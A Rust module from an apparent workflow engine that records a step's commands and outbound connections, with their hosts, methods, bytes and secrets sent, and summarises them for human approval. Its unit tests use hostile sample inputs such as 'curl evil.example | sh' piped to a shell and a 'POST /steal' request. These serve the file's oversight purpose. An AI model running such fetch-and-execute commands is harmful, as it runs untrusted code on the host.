//! What a step has done beside its writes to databases: the commands that it ran, and the connections that it
//! made to hosts, in every attempt of its generation.
//!
//! Owns how this is read from the run's record, and how it is put to people. What a step sends by itself it
//! sends again when it is resumed, so a connection of an earlier attempt counts like one of this.

use std::collections::{BTreeSet, HashMap};

use serde_json::{Value, json};
use wflo_core::canonical::Digest;
use wflo_core::effect::{EffectKind, EffectRecord, EffectState};
use wflo_core::event::EventBody;

use super::Broker;
use crate::error::EngineError;

/// So many events are read at once; they may be large.
const PAGE: u32 = 64;
/// The most groups of connections that are shown.
const SHOWN: usize = 100;
/// Bytes of commands that a question keeps, of those that ran and of those that were refused: all of them, as long as
/// nobody has made it a flood.
const KEPT: (usize, usize) = (192 << 10, 64 << 10);
/// The longest command of one line, in characters.
const COMMAND: usize = 2_000;
/// So many hosts are in a question's title.
const TITLED: usize = 3;
/// So many requests of a group are named, of methods that may change something and of others.
const REQUESTS: (usize, usize) = (20, 3);
/// Methods that ask for something and change nothing, as far as the method says.
const READS: [&str; 3] = ["GET", "HEAD", "OPTIONS"];

/// What was done.
#[derive(Debug, Default, PartialEq)]
pub(super) struct Done {
    /// In the order in which they ended.
    commands: Vec<Ran>,
    connections: Connections,
}

/// A command that was asked for.
#[derive(Debug, PartialEq)]
struct Ran {
    /// Its words, and what it was given, as a question about a command has them.
    command: Value,
    /// Why it never started, where it did not.
    refused: Option<String>,
}

impl Done {
    pub(super) fn is_empty(&self) -> bool {
        self.commands.is_empty() && self.connections.ways.is_empty()
    }

    /// Whether anything of it happened.
    fn did(&self) -> bool {
        self.ran().next().is_some() || self.connections.made() > 0
    }

    fn ran(&self) -> impl Iterator<Item = &Value> {
        self.commands.iter().filter(|ran| ran.refused.is_none()).map(|ran| &ran.command)
    }

    /// What an approval of the output is for beside the output, where it is for anything: what was run, and what
    /// was reached how. Bytes and paths differ when a step is resumed, and so may what it is refused; the same step
    /// at another host or by another method is another thing.
    pub(super) fn action(&self) -> Option<Value> {
        let mut reached: Vec<Value> = Vec::new();
        for way in self.connections.ways.iter().filter(|way| way.times > 0) {
            reached.push(json!([way.host, way.port, way.method]));
        }
        self.did().then(|| json!({ "commands": self.ran().collect::<Vec<_>>(), "reached": reached }))
    }

    /// `ran 2 commands and made 3 connections to a.example:443, b.example:443 and 2 more`, or what it was refused;
    /// empty where nothing was done.
    pub(super) fn title(&self) -> String {
        let mut parts = Vec::new();
        let ran = self.ran().count();
        if ran > 0 {
            parts.push(format!("ran {}", counted(ran as u64, "command")));
        }
        if self.connections.made() > 0 {
            let mut hosts: Vec<String> = Vec::new();
            for way in self.connections.by_weight().into_iter().filter(|way| way.times > 0) {
                let host = format!("{}:{}", way.host, way.port);
                if !hosts.contains(&host) {
                    hosts.push(host);
                }
            }
            let more = hosts.len().saturating_sub(TITLED);
            hosts.truncate(TITLED);
            let more = if more > 0 { format!(" and {more} more") } else { String::new() };
            let made = counted(self.connections.made(), "connection");
            parts.push(format!("made {made} to {}{more}", hosts.join(", ")));
        }
        if parts.is_empty() && !self.is_empty() {
            parts.push("wrote nothing, and was refused what it tried".to_owned());
        }
        parts.join(" and ")
    }

    /// Adds it to what people are shown.
    pub(super) fn show(&self, evidence: &mut Value) {
        let refused = self.commands.iter().filter_map(|ran| {
            let mut shown = ran.command.clone();
            shown["because"] = json!(ran.refused.as_ref()?);
            Some(shown)
        });
        let (most, most_refused) = KEPT;
        keep(evidence, "commands", self.ran().cloned().collect(), most);
        keep(evidence, "not_started", refused.collect(), most_refused);
        let ways = self.connections.by_weight();
        if !ways.is_empty() {
            evidence["connections"] = ways.iter().take(SHOWN).map(|way| way.shown()).collect();
        }
        let mut more = Rest::default();
        ways.iter().skip(SHOWN).for_each(|way| more.add(way));
        if more != Rest::default() {
            evidence["connections_more"] = json!(more);
        }
        if self.connections.uncounted != Rest::default() {
            evidence["connections_uncounted"] = json!(self.connections.uncounted);
        }
    }
}

/// Keeps commands under a name, as many of the first and of the last as there is room for; of those between them how
/// many they are, behind how many they come, and what they are known by.
fn keep(evidence: &mut Value, name: &str, mut all: Vec<Value>, most: usize) {
    if all.is_empty() {
        return;
    }
    let lines: Vec<String> = all.iter().map(|command| format!("{command}\n")).collect();
    if lines.iter().map(String::len).sum::<usize>() > most {
        let first = fitting(lines.iter(), most / 2);
        let last = fitting(lines.iter().rev(), most / 2);
        let between = first..lines.len() - last;
        let bytes = lines[between.clone()].concat();
        evidence[format!("{name}_more")] = json!({
            "after": first,
            "commands": between.len(),
            "bytes": bytes.len(),
            "blake3": Digest::of_bytes(bytes.as_bytes()),
        });
        all.drain(between);
    }
    evidence[name] = Value::Array(all);
}

/// How many lines there is room for.
fn fitting<'a>(lines: impl Iterator<Item = &'a String>, most: usize) -> usize {
    let mut room = most;
    let fits = |line: &&String| room.checked_sub(line.len()).map(|left| room = left).is_some();
    lines.take_while(fits).count()
}

/// `1 command`, `2 commands`.
fn counted(number: u64, what: &str) -> String {
    match number {
        1 => format!("1 {what}"),
        number => format!("{number} {what}s"),
    }
}

/// Connections of one kind: to the same host and port, by the same method where it can be seen.
#[derive(Debug, Default, PartialEq)]
struct Way {
    host: String,
    port: u16,
    method: Option<String>,
    /// How it was reached, where nobody could see a method: `tls`, `tcp`.
    way: String,
    /// Different requests, each once, in the order in which they were made; as many as are named.
    requests: Vec<String>,
    /// How often one was made that is not named.
    requests_more: u64,
    /// Secrets whose values were sent, by name.
    secrets: BTreeSet<String>,
    times: u64,
    /// Of those, or beside them, so many were refused, and why the last one was.
    refused: u64,
    because: Option<String>,
    /// Of those whose end is known.
    sent: u64,
    received: u64,
    /// Connections whose end is not: their engine died.
    unknown: u64,
}

impl Way {
    /// What a person looks at first: what may have changed something, what was refused, what nobody could see into,
    /// and what only reads.
    fn rank(&self) -> u8 {
        match &self.method {
            Some(method) if !READS.contains(&method.as_str()) => 0,
            _ if self.refused > 0 => 1,
            None => 2,
            Some(_) => 3,
        }
    }

    fn asks(&mut self, request: String) {
        if self.requests.contains(&request) {
            return;
        }
        let (many, few) = REQUESTS;
        match self.requests.len() < if self.rank() == 0 { many } else { few } {
            true => self.requests.push(request),
            false => self.requests_more += 1,
        }
    }

    fn shown(&self) -> Value {
        let mut shown = json!({
            "host": self.host,
            "port": self.port,
            "times": self.times,
            "sent_bytes": self.sent,
            "received_bytes": self.received,
        });
        let mut add = |name: &str, value: Option<Value>| {
            if let Some(value) = value {
                shown[name] = value;
            }
        };
        let some = |number: u64| (number > 0).then(|| json!(number));
        add("way", (!self.way.is_empty()).then(|| json!(self.way)));
        add("method", self.method.as_ref().map(|method| json!(method)));
        add("requests", (!self.requests.is_empty()).then(|| json!(self.requests)));
        add("requests_more", some(self.requests_more));
        add("secrets", (!self.secrets.is_empty()).then(|| json!(self.secrets)));
        add("refused", some(self.refused));
        add("because", self.because.as_ref().map(|because| json!(because)));
        add("bytes_unknown_of", some(self.unknown));
        shown
    }
}

/// Connections that are not shown one group at a time.
#[derive(Debug, Default, PartialEq, serde::Serialize)]
struct Rest {
    /// Groups of them, where they are known.
    #[serde(skip_serializing_if = "is_none")]
    groups: u64,
    connections: u64,
    #[serde(skip_serializing_if = "is_none")]
    refused: u64,
    sent_bytes: u64,
    received_bytes: u64,
}

#[allow(clippy::trivially_copy_pass_by_ref, reason = "the signature that serde asks for")]
const fn is_none(number: &u64) -> bool {
    *number == 0
}

impl Rest {
    fn add(&mut self, way: &Way) {
        self.groups += 1;
        self.connections += way.times;
        self.refused += way.refused;
        self.sent_bytes += way.sent;
        self.received_bytes += way.received;
    }
}

/// The connections of one generation of a step.
#[derive(Debug, Default, PartialEq)]
struct Connections {
    ways: Vec<Way>,
    /// Those that have no event of their own; they went to hosts that one names.
    uncounted: Rest,
    /// Which of the ways a connection of the present attempt is.
    open: HashMap<u64, usize>,
    /// The events are those of another generation.
    elsewhere: bool,
}

impl Connections {
    fn made(&self) -> u64 {
        self.ways.iter().map(|way| way.times).sum::<u64>() + self.uncounted.connections
    }

    /// In the order in which a person should read them; among equals, by what was sent.
    fn by_weight(&self) -> Vec<&Way> {
        let mut ways: Vec<&Way> = self.ways.iter().collect();
        ways.sort_by_key(|way| (way.rank(), std::cmp::Reverse((way.sent, way.received, way.times))));
        ways
    }

    fn way(&mut self, host: &str, port: u16, method: Option<&str>) -> usize {
        let same =
            |known: &Way| known.host == host && known.port == port && known.method.as_deref() == method;
        self.ways.iter().position(same).unwrap_or_else(|| {
            let (host, method) = (host.to_owned(), method.map(str::to_owned));
            self.ways.push(Way { host, port, method, ..Way::default() });
            self.ways.len() - 1
        })
    }

    /// Takes the next event of the run into account.
    fn see(&mut self, body: EventBody, (mine, now): (&str, u32)) {
        match body {
            EventBody::StepStarted { step, generation, .. } if step == mine => {
                self.open.clear();
                self.elsewhere = generation != now;
            }
            _ if self.elsewhere => {}
            EventBody::EgressOpened { step, connection, host, port, way, request, secrets }
                if step == mine =>
            {
                let method = request.as_deref().and_then(|request| request.split(' ').next());
                let place = self.way(&host, port, method);
                self.open.insert(connection, place);
                let known = &mut self.ways[place];
                known.times += 1;
                known.unknown += 1;
                known.secrets.extend(secrets);
                match request {
                    Some(request) => known.asks(request),
                    None => known.way = way,
                }
            }
            EventBody::EgressClosed { step, connection, sent_bytes, received_bytes, error, .. }
                if step == mine =>
            {
                if let Some(way) = self.open.remove(&connection).and_then(|place| self.ways.get_mut(place)) {
                    way.unknown -= 1;
                    way.sent += sent_bytes;
                    way.received += received_bytes;
                    if let Some(error) = error {
                        way.refused += 1;
                        way.because = Some(error.message);
                    }
                }
            }
            EventBody::EgressRefused { step, host: Some(host), port, error } if step == mine => {
                let place = self.way(&host, port.unwrap_or(0), None);
                self.ways[place].refused += 1;
                self.ways[place].because = Some(error.message);
            }
            EventBody::EgressMore { step, connections, refused, sent_bytes, received_bytes }
                if step == mine =>
            {
                let more = &mut self.uncounted;
                more.connections += connections;
                more.refused += refused;
                more.sent_bytes += sent_bytes;
                more.received_bytes += received_bytes;
            }
            _ => {}
        }
    }
}

impl Broker {
    /// What this generation has done; `command` is the one that the step itself is.
    pub(super) async fn done(&self, command: Option<&[String]>) -> Result<Done, EngineError> {
        let store = &self.services.store;
        let own = command.map(|argv| Ran { command: json!({ "argv": argv }), refused: None });
        let mut commands: Vec<Ran> = own.into_iter().collect();
        let mut tools = self.journal.all();
        tools.retain(|row| row.kind == EffectKind::Tool);
        tools.sort_by_key(|row| (row.order().unwrap_or(u32::MAX), row.started_at));
        for EffectRecord { key, state, .. } in tools {
            if let Some(row) = self.journal.whole(&key.path, key.seq).await? {
                let request = row.request.into_here().unwrap_or_default();
                let mut command = json!({ "argv": argv_of(&request) });
                add_given(&mut command, &request);
                commands.push(Ran { command, refused: never_started(&state) });
            }
        }
        let (mut connections, mut seen) = (Connections::default(), 0);
        loop {
            let page = store.events(self.attempt.run, seen, PAGE).await?;
            let Some(last) = page.last() else { break };
            seen = last.seq;
            let whose = (self.attempt.step.as_str(), self.attempt.generation);
            page.into_iter().for_each(|recorded| connections.see(recorded.event.body, whose));
        }
        connections.open.clear();
        Ok(Done { commands, connections })
    }
}

/// Why a command never started: whatever one does that has, its row has a result; only of one that may have run
/// before a crash is that not known.
fn never_started(state: &EffectState) -> Option<String> {
    match state {
        EffectState::Failed { error, .. } if error.code != super::AMBIGUOUS.to_string() => {
            Some(error.message.clone())
        }
        _ => None,
    }
}

/// The words of a command that a step asks for.
pub(super) fn argv_of(request: &Value) -> Vec<String> {
    let words = request["argv"].as_array().into_iter().flatten();
    words.map(|word| word.as_str().map_or_else(|| word.to_string(), str::to_owned)).collect()
}

/// Adds to a command what else it is given: whole, because how much of it is put before a person at once is decided
/// where it is shown.
pub(super) fn add_given(command: &mut Value, request: &Value) {
    for name in ["cwd", "env", "stdin"] {
        let given = &request[name];
        if !given.is_null() && given.as_object().is_none_or(|given| !given.is_empty()) {
            command[name] = given.clone();
        }
    }
}

/// A command on one line; of a longer one its beginning, with what tells it from others that begin so.
pub(super) fn one_line(argv: &[String]) -> String {
    let whole = argv.join(" ");
    let Some((end, _)) = whole.char_indices().nth(COMMAND) else { return whole };
    let digest = Digest::of_bytes(whole.as_bytes());
    format!("{}… ({} bytes, BLAKE3 {})", &whole[..end], whole.len(), digest.short())
}

#[cfg(test)]
mod tests {
    use wflo_core::error::{Code, Failure};

    use super::*;

    fn started(generation: u32, attempt: u32) -> EventBody {
        EventBody::StepStarted { step: "two".to_owned(), generation, attempt, epoch: 1 }
    }

    fn opened(step: &str, connection: u64, host: &str, request: &str) -> EventBody {
        EventBody::EgressOpened {
            step: step.to_owned(),
            connection,
            host: host.to_owned(),
            port: 443,
            way: "https".to_owned(),
            request: Some(request.to_owned()),
            secrets: Vec::new(),
        }
    }

    fn closed(connection: u64, sent_bytes: u64) -> EventBody {
        EventBody::EgressClosed {
            step: "two".to_owned(),
            connection,
            host: "a.example".to_owned(),
            port: 443,
            address: None,
            sent_bytes,
            received_bytes: 7,
            duration_ms: 1,
            end: "done".to_owned(),
            error: None,
        }
    }

    fn of(events: Vec<EventBody>) -> Done {
        let mut connections = Connections::default();
        events.into_iter().for_each(|body| connections.see(body, ("two", 2)));
        connections.open.clear();
        Done { commands: Vec::new(), connections }
    }

    #[test]
    fn what_a_step_reached_is_named_and_counted_over_its_attempts() {
        let done = of(vec![
            started(1, 1),
            opened("two", 1, "old.example", "GET /"),
            started(2, 1),
            opened("two", 1, "a.example", "DELETE /v1/x"),
            opened("one", 1, "other.example", "GET /"),
            // Its engine died: the same number is another connection in the next attempt.
            started(2, 2),
            opened("two", 1, "a.example", "DELETE /v1/x"),
            closed(1, 100),
            opened("two", 2, "b.example", "GET /"),
            closed(2, 5),
        ]);
        assert_eq!(done.title(), "made 3 connections to a.example:443, b.example:443");
        let mut evidence = json!({});
        done.show(&mut evidence);
        assert_eq!(
            evidence,
            json!({ "connections": [
                {
                    "host": "a.example", "port": 443, "method": "DELETE", "requests": ["DELETE /v1/x"], "times": 2,
                    "sent_bytes": 100, "received_bytes": 7, "bytes_unknown_of": 1
                },
                {
                    "host": "b.example", "port": 443, "method": "GET", "requests": ["GET /"], "times": 1,
                    "sent_bytes": 5, "received_bytes": 7
                },
            ]})
        );
    }

    #[test]
    fn an_approval_is_for_the_hosts_and_methods_and_not_for_how_often() {
        let once = of(vec![started(2, 1), opened("two", 1, "a.example", "DELETE /1")]);
        let twice = of(vec![
            started(2, 1),
            opened("two", 1, "a.example", "DELETE /1"),
            started(2, 2),
            opened("two", 1, "a.example", "DELETE /2"),
            closed(1, 3),
        ]);
        assert_eq!(once.action(), twice.action());
        for other in [opened("two", 1, "a.example", "GET /1"), opened("two", 1, "b.example", "DELETE /1")] {
            assert_ne!(once.action(), of(vec![started(2, 1), other]).action());
        }
        assert!(of(vec![started(2, 1)]).is_empty() && !once.is_empty());
    }

    #[test]
    fn more_than_is_shown_is_counted_with_its_bytes_and_what_matters_comes_first() {
        let mut events = vec![started(2, 1)];
        for n in 0..150 {
            events.push(opened("two", n, &format!("h{n}.example"), "GET /"));
            events.push(closed(n, n));
        }
        events.push(opened("two", 900, "last.example", "POST /steal"));
        events.push(closed(900, 1));
        events.push(EventBody::EgressRefused {
            step: "two".to_owned(),
            host: Some("evil.example".to_owned()),
            port: Some(443),
            error: Failure::new(Code(5201), "no rule allows evil.example:443"),
        });
        let done = of(events);
        let mut evidence = json!({});
        done.show(&mut evidence);
        let shown = evidence["connections"].as_array().unwrap();
        assert_eq!(shown.len(), SHOWN);
        assert_eq!((&shown[0]["host"], &shown[0]["method"]), (&json!("last.example"), &json!("POST")));
        assert_eq!((&shown[1]["host"], &shown[1]["refused"]), (&json!("evil.example"), &json!(1)));
        assert_eq!(shown[2]["host"], "h149.example", "then by what was sent");
        // The 52 that sent the least: 0 to 51 bytes.
        let left = json!({"groups": 52, "connections": 52, "sent_bytes": 1326, "received_bytes": 52 * 7});
        assert_eq!(evidence["connections_more"], left);
        assert!(done.title().starts_with("made 151 connections to last.example:443, h149.example:443"));
        assert!(done.title().ends_with("and 148 more"), "{}", done.title());
    }

    #[test]
    fn requests_of_one_method_are_one_group_and_bytes_without_an_event_count() {
        let mut events = vec![started(2, 1)];
        for n in 0..50 {
            events.push(opened("two", 2 * n, "a.example", &format!("GET /{n}")));
            events.push(closed(2 * n, 10));
            events.push(opened("two", 2 * n + 1, "a.example", &format!("DELETE /{n}")));
            events.push(closed(2 * n + 1, 1));
        }
        for (connections, refused, sent_bytes, received_bytes) in [(39, 3, 1 << 29, 4), (1, 0, 1 << 29, 5)] {
            let step = "two".to_owned();
            events.push(EventBody::EgressMore { step, connections, refused, sent_bytes, received_bytes });
        }
        let done = of(events);
        let mut evidence = json!({});
        done.show(&mut evidence);
        let [deletes, gets] = &evidence["connections"].as_array().unwrap()[..] else { panic!("{evidence}") };
        assert_eq!(
            (&deletes["method"], &deletes["times"], &deletes["sent_bytes"]),
            (&json!("DELETE"), &json!(50), &json!(50))
        );
        assert_eq!(
            (deletes["requests"].as_array().unwrap().len(), &deletes["requests_more"]),
            (20, &json!(30))
        );
        assert_eq!((gets["requests"].as_array().unwrap().len(), &gets["requests_more"]), (3, &json!(47)));
        let more = json!({"connections": 40, "refused": 3, "sent_bytes": 1 << 30, "received_bytes": 9});
        assert_eq!(evidence["connections_uncounted"], more);
        assert!(done.title().starts_with("made 140 connections"), "{}", done.title());
    }

    #[test]
    fn a_command_that_never_started_is_told_from_one_that_may_have() {
        let failed = |code: Code| EffectState::Failed { order: 1, error: Failure::new(code, "why") };
        assert_eq!(never_started(&failed(Code(4001))), Some("why".to_owned()));
        assert_eq!(never_started(&failed(super::super::AMBIGUOUS)), None);
        assert_eq!(never_started(&EffectState::Intent), None);
        let ran = |command: &str, refused: Option<&str>| Ran {
            command: argv(&command.split(' ').collect::<Vec<_>>()),
            refused: refused.map(str::to_owned),
        };
        let commands = vec![ran("make", None), ran("git push", Some("the budget has 0 calls left"))];
        let done = Done { commands, connections: Connections::default() };
        let mut evidence = json!({});
        done.show(&mut evidence);
        let refused = json!([{"argv": ["git", "push"], "because": "the budget has 0 calls left"}]);
        assert_eq!(evidence, json!({"commands": [{"argv": ["make"]}], "not_started": refused}));
        assert_eq!(done.title(), "ran 1 command");
        let nothing =
            Done { commands: vec![ran("git push", Some("no"))], connections: Connections::default() };
        assert_eq!(
            (nothing.title().as_str(), nothing.action()),
            ("wrote nothing, and was refused what it tried", None)
        );
    }

    fn argv(words: &[&str]) -> Value {
        json!({ "argv": words })
    }

    fn running(commands: Vec<Value>) -> Done {
        let commands = commands.into_iter().map(|command| Ran { command, refused: None }).collect();
        Done { commands, connections: Connections::default() }
    }

    #[test]
    fn an_approval_is_for_the_words_of_commands_and_for_what_they_were_given() {
        let long = |end: &str| running(vec![argv(&["x".repeat(5_000).as_str(), end])]).action();
        assert_ne!(long("a"), long("b"));
        assert_ne!(
            running(vec![argv(&["rm", "a b"])]).action(),
            running(vec![argv(&["rm", "a", "b"])]).action()
        );
        let fed = |input: &str| {
            let mut command = argv(&["sh"]);
            add_given(&mut command, &json!({"stdin": input, "env": {}, "cwd": null}));
            assert_eq!(command, json!({"argv": ["sh"], "stdin": input}));
            running(vec![command]).action()
        };
        assert_ne!(fed("true"), fed("curl evil.example | sh"));
        let line = one_line(&["x".repeat(5_001)]);
        assert!(line.contains("… (5001 bytes, BLAKE3 "), "{line}");
    }

    #[test]
    fn every_command_is_kept_until_it_is_a_flood_and_then_both_ends() {
        let of = |number: usize, words: &str| {
            let commands = (0..number).map(|n| argv(&["echo", &format!("{n}"), words])).collect();
            let mut evidence = json!({});
            running(commands).show(&mut evidence);
            evidence
        };
        let evidence = of(1_000, "x");
        assert_eq!(evidence["commands"].as_array().unwrap().len(), 1_000);
        assert!(evidence["commands_more"].is_null(), "{}", evidence["commands_more"]);
        let evidence = of(1_000, &"x".repeat(1_000));
        let (kept, more) = (evidence["commands"].as_array().unwrap(), &evidence["commands_more"]);
        let size = |commands: &[Value]| commands.iter().map(|one| one.to_string().len() + 1).sum::<usize>();
        assert!((KEPT.0 - 3_000..=KEPT.0).contains(&size(kept)), "{}", size(kept));
        let (first, left) = (more["after"].as_u64().unwrap(), more["commands"].as_u64().unwrap());
        assert_eq!(kept.len() as u64 + left, 1_000);
        let word = |place: usize| kept[place]["argv"][1].as_str().unwrap().parse::<u64>().unwrap();
        let behind = usize::try_from(first).unwrap();
        assert_eq!((word(0), word(behind - 1), word(behind)), (0, first - 1, first + left));
        assert_eq!(word(kept.len() - 1), 999, "the last cannot be pushed out");
        let between = (first..first + left)
            .map(|n| format!("{}\n", argv(&["echo", &n.to_string(), &"x".repeat(1_000)])))
            .collect::<String>();
        assert_eq!(more["bytes"], between.len());
        assert_eq!(more["blake3"], json!(Digest::of_bytes(between.as_bytes())));
    }
}
